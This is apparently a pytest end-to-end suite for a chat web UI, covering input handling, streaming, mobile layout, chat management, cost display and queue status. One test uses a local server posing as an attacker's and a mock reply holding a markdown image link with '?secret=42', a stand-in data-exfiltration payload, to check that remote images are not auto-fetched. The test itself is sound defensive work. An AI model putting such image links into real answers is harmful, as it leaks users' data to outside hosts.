"""The chat page as people use ChatGPT and Open WebUI, in a real headless Chromium against a real `sluice serve`:
Enter sends and Shift+Enter breaks the line, the composer stays docked and the page follows the stream (with
"Jump to latest" after scrolling up), a phone-sized window reaches the history through a menu button, new chats
are not stored empty, rename and delete behave, Regenerate and Edit say when they cannot act, per-chat settings
reach the model, each answer names its model and cost, math is rendered, and the place in line updates while
waiting. Also SECURITY.md case 41: an answer's remote image is not fetched until clicked, and every UI response
carries the security headers. Screenshots for docs/ui/ are written by these tests.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from tests.e2e.ui.browser import (
    By,
    Keys,
    WebDriver,
    click,
    field,
    new_browser,
    pick_model,
    retype,
    shot,
    sign_in,
    type_into,
    until,
)
from tests.support.processes import SluiceProcess
from tests.support.server import MASTER_KEY, free_port

ADMIN_EMAIL, ADMIN_PASSWORD = "admin@example.com", "admin-Password-0001"
DOCS = Path(__file__).resolve().parents[3] / "docs" / "ui"
PRICE = {"input": 2.0, "output": 4.0}


class ImageServer:
    """A local web server standing for an attacker's: it records every request it gets."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        seen = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args: object) -> None:
                return

        self.port = free_port()
        self.server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> ImageServer:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def images() -> Iterator[ImageServer]:
    with ImageServer() as server:
        yield server


def rich_reply(port: int) -> str:
    return (
        "# A big heading\n\nThe area is $\\pi r^2$, and\n\n$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$\n\n"
        f"Here is a chart: ![the chart](http://127.0.0.1:{port}/leak.gif?secret=42)\n\n"
        f'<img src="http://127.0.0.1:{port}/raw.gif">\n\n```python\nprint("hi")\n```\n'
    )


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory, images: ImageServer) -> Iterator[SluiceProcess]:
    config = {
        "ui": True,
        "currency": "EUR",
        "logging": {"level": "warning", "access_log": False},
        "auth": {"admin_email": ADMIN_EMAIL, "admin_password": ADMIN_PASSWORD, "registration": "invite"},
        "providers": [
            {"name": "rich", "kind": "mock", "mock": {"reply": rich_reply(images.port)}},
            {"name": "slow", "kind": "mock", "mock": {"latency_ms": 20, "tokens_per_second": 30, "reply_tokens": 2000}},
        ],
        "models": [
            {"name": "a-rich", "price": PRICE, "deployments": [{"provider": "rich"}]},
            {"name": "b-slow", "price": PRICE, "deployments": [{"provider": "slow", "capacity": 1}]},
        ],
        "builtin_mock": False,
    }
    process = SluiceProcess(tmp_path_factory.mktemp("habits"), config).start()
    yield process
    process.stop()


@pytest.fixture
def browser() -> Iterator[WebDriver]:
    driver = new_browser()
    yield driver
    driver.quit()


def docs_shot(driver: WebDriver, name: str) -> None:
    """A screenshot for the documentation (docs/ui/), also kept with the test artefacts."""
    DOCS.mkdir(parents=True, exist_ok=True)
    driver.save_screenshot(str(DOCS / f"{name}.png"))
    shot(driver, name)


def answers(driver: WebDriver) -> list[str]:
    return [a.text for a in driver.find_elements(By.CSS_SELECTOR, "[data-role=assistant] .answer")]


def by_label(driver: WebDriver, label: str) -> list:  # type: ignore[type-arg]
    return [b for b in driver.find_elements(By.XPATH, f"//button[@aria-label='{label}']") if b.is_displayed()]


def history_titles(driver: WebDriver) -> list[str]:
    return [a.text for a in driver.find_elements(By.CSS_SELECTOR, ".q-drawer a") if a.text]


def test_remote_images_are_not_fetched_until_clicked_and_ui_responses_carry_security_headers(
    gateway: SluiceProcess, images: ImageServer, browser: WebDriver
) -> None:
    sign_in(browser, gateway.url, ADMIN_EMAIL, ADMIN_PASSWORD)
    type_into(browser, "Message", "draw me a chart", Keys.ENTER)
    link = until(lambda: browser.find_element(By.CSS_SELECTOR, "a.remote-image"), "the image placeholder")
    until(lambda: len(browser.find_elements(By.CSS_SELECTOR, "a.remote-image")) == 2, "both images as links")
    time.sleep(1.5)  # time for any fetch the page would have made
    assert images.paths == [], "the page fetched a remote image by itself"
    assert "Image not loaded: the chart (127.0.0.1)" in link.text
    assert browser.find_elements(By.CSS_SELECTOR, ".answer img") == []
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    link.click()  # the reader chooses to see it: it opens in a tab of its own
    until(lambda: images.paths, "the image fetched after the click")
    # The new tab may also ask that site for its /favicon.ico: the browser's own doing, after the reader's click.
    assert [p for p in images.paths if p != "/favicon.ico"] == ["/leak.gif?secret=42"]
    browser.switch_to.window(browser.window_handles[0])

    for path in ("/ui/login", "/ui/chat", "/ui/admin/requests"):
        headers = httpx.get(f"{gateway.url}{path}", timeout=30).headers
        policy = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "img-src 'self' data: blob:" in policy, path
        assert "default-src 'self'" in policy and "object-src 'none'" in policy
        assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "no-referrer"
    violations = [e for e in browser.get_log("browser") if "Content Security Policy" in e.get("message", "")]
    assert violations == [], violations  # NiceGUI runs within the policy


def test_enter_sends_math_renders_each_answer_names_its_model_and_cost_and_is_accessible(
    gateway: SluiceProcess, browser: WebDriver
) -> None:
    sign_in(browser, gateway.url, ADMIN_EMAIL, ADMIN_PASSWORD)
    assert browser.find_element(By.TAG_NAME, "html").get_attribute("lang") == "en-US"
    assert browser.find_elements(By.TAG_NAME, "h1"), "every page has a heading"
    assert by_label(browser, "Send")[0].accessible_name == "Send"  # not "sendSend": no icon ligature in the name
    assert by_label(browser, "New chat")[0].accessible_name == "New chat"
    prompt = field(browser, "Message")
    prompt.send_keys("first line", Keys.SHIFT, Keys.ENTER, Keys.SHIFT, "second line")
    assert prompt.get_attribute("value") == "first line\nsecond line"  # Shift+Enter: a new line, nothing sent
    assert answers(browser) == []
    prompt.send_keys(Keys.ENTER)
    until(lambda: len(answers(browser)) == 1 and "print" in answers(browser)[0], "the answer")
    user_bubble = browser.find_element(By.CSS_SELECTOR, "[data-role=user]")
    assert user_bubble.text == "first line\nsecond line"
    assert user_bubble.find_elements(By.TAG_NAME, "button") == []  # no copy icon over the user's own text

    answer = browser.find_element(By.CSS_SELECTOR, "[data-role=assistant]")
    assert len(answer.find_elements(By.TAG_NAME, "math")) == 2  # $…$ and $$…$$, as MathML (KaTeX, offline)
    heading_size = float(answer.find_element(By.TAG_NAME, "h1").value_of_css_property("font-size").removesuffix("px"))
    assert heading_size <= 22, "an answer's heading is sized for a bubble"
    usage = until(
        lambda: (
            "€" in answer.find_element(By.CSS_SELECTOR, ".usage-line").text
            and answer.find_element(By.CSS_SELECTOR, ".usage-line").text
        ),
        "the recorded cost",
    )
    assert usage.startswith("a-rich · ") and " tokens in, " in usage and "€0.0" in usage  # model, tokens, money
    messages = browser.find_element(By.ID, "messages")
    assert messages.get_attribute("aria-live") == "polite" and messages.get_attribute("role") == "log"
    assert browser.find_element(By.ID, "status").get_attribute("aria-live") == "polite"
    docs_shot(browser, "chat-desktop")


def test_new_chats_are_stored_only_with_a_message_rename_stays_delete_names_search_finds(
    gateway: SluiceProcess, browser: WebDriver
) -> None:
    base = gateway.url
    sign_in(browser, base, ADMIN_EMAIL, ADMIN_PASSWORD)
    before = history_titles(browser)
    for _ in range(3):
        click(browser, "New chat")
        time.sleep(0.8)
    assert history_titles(browser) == before, "New chat stored empty conversations"
    regenerate = browser.find_element(By.ID, "regenerate")
    edit = browser.find_element(By.ID, "edit-last")
    assert regenerate.get_attribute("disabled") and edit.get_attribute("disabled")  # nothing to act on yet

    type_into(browser, "Message", "Tell me about otters", Keys.ENTER)
    until(lambda: "Tell me about otters" in history_titles(browser), "the new chat in the history")
    until(lambda: "c=" in browser.current_url, "the address naming the stored chat")
    until(lambda: not browser.find_element(By.ID, "regenerate").get_attribute("disabled"), "Regenerate enabled")
    address = browser.current_url

    click(browser, "Rename Tell me about otters")
    title = until(lambda: field(browser, "Title"), "the rename dialog")
    retype(title, "Otter notes")
    title.send_keys(Keys.ENTER)  # Enter saves
    until(lambda: "Otter notes" in history_titles(browser), "the new title")
    assert browser.current_url == address  # renamed in place: no jump

    click(browser, "New chat")  # a second chat to search among
    until(lambda: "c=" not in browser.current_url, "a new chat")
    type_into(browser, "Message", "Quarterly figures", Keys.ENTER)
    until(lambda: "Quarterly figures" in history_titles(browser), "the second chat")
    search = browser.find_element(By.XPATH, "//input[@aria-label='Search chats']")
    search.send_keys("otter")
    until(lambda: history_titles(browser) == ["Otter notes"], "the search narrowing the history")
    retype(search, "")
    until(lambda: "Quarterly figures" in history_titles(browser), "the whole history again")

    click(browser, "Delete Otter notes")
    until(lambda: "Delete the conversation “Otter notes”?" in browser.page_source, "a confirmation naming it")
    click(browser, "Delete", within="//div[contains(@class,'q-dialog')]")
    until(lambda: "Otter notes" not in history_titles(browser), "the conversation gone")
    assert "Quarterly figures" in history_titles(browser)


def test_settings_reach_the_model_and_the_page_follows_the_stream_until_the_reader_scrolls_up(
    gateway: SluiceProcess, browser: WebDriver
) -> None:
    sign_in(browser, gateway.url, ADMIN_EMAIL, ADMIN_PASSWORD)
    pick_model(browser, "b-slow")
    click(browser, "Chat settings")
    retype(until(lambda: field(browser, "Max tokens per answer (empty: model default)"), "settings"), "7")
    retype(field(browser, "Temperature (empty: model default)"), "0.3")
    click(browser, "Save", within="//div[contains(@class,'q-dialog')]")
    type_into(browser, "Message", "short, please", Keys.ENTER)
    usage = until(
        lambda: (
            "€" in (found := browser.find_element(By.CSS_SELECTOR, "[data-role=assistant] .usage-line").text) and found
        ),
        "the short answer's cost",
    )
    assert " 7 out " in f"{usage} ", usage  # max tokens reached the model

    click(browser, "Chat settings")
    retype(until(lambda: field(browser, "Max tokens per answer (empty: model default)"), "settings"), "")
    click(browser, "Save", within="//div[contains(@class,'q-dialog')]")
    browser.set_window_size(1000, 520)  # a short window: the answer outgrows it soon
    type_into(browser, "Message", "now a long one", Keys.ENTER)
    stop = until(lambda: by_label(browser, "Stop"), "the Stop button")
    assert browser.find_element(By.ID, "regenerate").get_attribute("disabled")  # not while an answer streams

    def at_bottom() -> bool:
        return bool(
            browser.execute_script(
                "return window.innerHeight + window.scrollY >= document.documentElement.scrollHeight - 60"
            )
        )

    until(
        lambda: browser.execute_script("return document.documentElement.scrollHeight > window.innerHeight + 200"),
        "a long page",
    )
    until(at_bottom, "the page following the stream")
    assert stop[0].is_displayed()  # the docked composer keeps Stop in view
    browser.execute_script("window.scrollTo(0, 0)")
    jump = until(
        lambda: (b := browser.find_element(By.ID, "jump-latest")).is_displayed() and b, "the jump-to-latest button"
    )
    time.sleep(0.6)
    assert browser.execute_script("return window.scrollY") == 0  # reading above: not pulled down
    jump.click()
    until(at_bottom, "back at the latest text")
    until(lambda: not browser.find_element(By.ID, "jump-latest").is_displayed(), "the button gone")
    click(browser, "Stop")
    until(lambda: "(stopped)" in answers(browser)[-1], "the answer stopped")


def test_on_a_phone_the_history_is_behind_a_menu_button_and_the_header_stays_small(
    gateway: SluiceProcess, browser: WebDriver
) -> None:
    sign_in(browser, gateway.url, ADMIN_EMAIL, ADMIN_PASSWORD)
    browser.set_window_size(390, 844)
    browser.get(f"{gateway.url}/ui/chat")
    toggle = until(lambda: by_label(browser, "Conversations"), "the menu button")[0]
    header = browser.find_element(By.CSS_SELECTOR, ".q-header")
    assert header.size["height"] <= 60, header.size  # one line, not a third of the screen
    assert not browser.find_element(By.CSS_SELECTOR, ".q-drawer").is_displayed() or (
        browser.find_element(By.CSS_SELECTOR, ".q-drawer").location["x"] < 0
    )
    composer = field(browser, "Message")
    assert composer.is_displayed() and composer.location["y"] > 600  # docked at the bottom
    type_into(browser, "Message", "from my phone", Keys.ENTER)
    until(lambda: answers(browser), "the answer")
    docs_shot(browser, "chat-phone")
    toggle.click()
    new_chat = until(lambda: by_label(browser, "New chat"), "New chat in the opened drawer")
    assert "from my phone" in history_titles(browser)
    docs_shot(browser, "chat-phone-history")
    new_chat[0].click()
    until(lambda: "c=" not in browser.current_url, "a new chat")
    pages = by_label(browser, "Pages")
    assert pages, "the admin pages are in a menu on a phone"


def test_the_place_in_line_updates_while_waiting(gateway: SluiceProcess, browser: WebDriver) -> None:
    base = gateway.url
    master = {"authorization": f"Bearer {MASTER_KEY}"}
    # ~8 s each: long enough that a loaded machine still sees the page's request wait behind both.
    body = {"model": "b-slow", "messages": [{"role": "user", "content": "x"}], "max_tokens": 240}

    def occupy() -> None:
        httpx.post(f"{base}/v1/chat/completions", headers=master, json=body, timeout=90)

    def waiting_for_master() -> int:
        return len(httpx.get(f"{base}/v1/queue", headers=master, timeout=10).json()["data"])

    sign_in(browser, base, ADMIN_EMAIL, ADMIN_PASSWORD)
    pick_model(browser, "b-slow")
    holders = [threading.Thread(target=occupy) for _ in range(2)]
    for holder in holders:  # one answering, one waiting: the page's request will be second in line
        holder.start()
    until(lambda: waiting_for_master() == 1, "one holder answering and one waiting", seconds=20)
    type_into(browser, "Message", "my turn?", Keys.ENTER)
    status = lambda: browser.find_element(By.ID, "status").text  # noqa: E731
    until(lambda: status().startswith("2nd in line"), "second in line", seconds=15)
    until(lambda: status().startswith("1st in line"), "first in line, without reloading", seconds=30)
    until(lambda: answers(browser) and len(answers(browser)[-1]) > 10, "the answer at last", seconds=45)
    for holder in holders:
        holder.join(timeout=90)
